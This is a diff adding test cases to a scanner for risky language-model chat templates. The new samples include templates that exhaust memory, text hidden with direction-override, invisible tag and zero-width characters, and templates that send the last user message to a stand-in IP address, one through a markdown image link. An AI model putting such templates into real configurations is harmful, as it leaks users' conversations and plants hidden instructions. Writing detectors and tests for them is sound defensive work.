@@ -50,6 +50,12 @@ def test_instructions_that_hang_on_what_is_said(template: str) -> None:
         ("{{ messages|attr(name) }}", "template/dynamic-attribute"),
         ("{{ lipsum() }}", "template/unusual-global"),
         ("More at https://example.org/help", "template/url"),
+        ("{% for i in range(999999999) %}{% endfor %}", "template/exhausts-memory"),
+        ("{{ 'a' * 999999999 }}", "template/exhausts-memory"),
+        ("{{ 9 ** 99999999 }}", "template/exhausts-memory"),
+        ("Be kind.\u202esdrawkcab", "template/invisible-text"),
+        ("{{ 'Be kind." + "".join(chr(0xE0000 + ord(letter)) for letter in "lie") + "' }}", "template/invisible-text"),
+        ("a" + "\u200b\u200c" * 8 + "b", "template/invisible-text"),
     ],
 )
 def test_what_wants_a_look(template: str, rule: str) -> None:
@@ -75,3 +81,32 @@ def test_what_cannot_be_parsed_is_said(template: str) -> None:
 
 def test_long_chains_are_worked_out_once() -> None:
     assert found("{{ messages" + "|join('-')|lower" * 60 + " }}") == []
+
+
+@pytest.mark.parametrize(
+    "template",
+    [
+        "![](http" + "://192.0.2.1/?q={{ messages[-1].content }})",
+        "{{ 'http" + "://192.0.2.1/?q=' ~ messages[-1]['content'] }}",
+        "{{ 'http" + "://192.0.2.1/' + message.content|urlencode }}",
+    ],
+)
+def test_what_was_said_behind_an_address(template: str) -> None:
+    assert "template/address-with-content" in {finding.rule.id for finding in found(template)}
+
+
+@pytest.mark.parametrize(
+    "template",
+    [
+        "{% for i in range(0, messages|length) %}{{ '=' * 80 }}{{ 2 ** 10 }}{% endfor %}",
+        "flag \U0001f3f4\U000e0067\U000e0062\U000e0065\U000e006e\U000e0067\U000e007f family \U0001f468\u200d\U0001f469",
+        "\u0645\u06cc\u200c\u062e\u0648\u0627\u0647\u0645 {{ messages[0].content }}",
+    ],
+)
+def test_arithmetic_and_marks_in_use_are_clean(template: str) -> None:
+    assert found(template) == []
+
+
+def test_an_address_before_what_was_said_is_no_more_than_an_address() -> None:
+    template = "See https://example.org/help.\nUser: {{ messages[0].content }}"
+    assert {finding.rule.id for finding in found(template)} == {"template/url"}
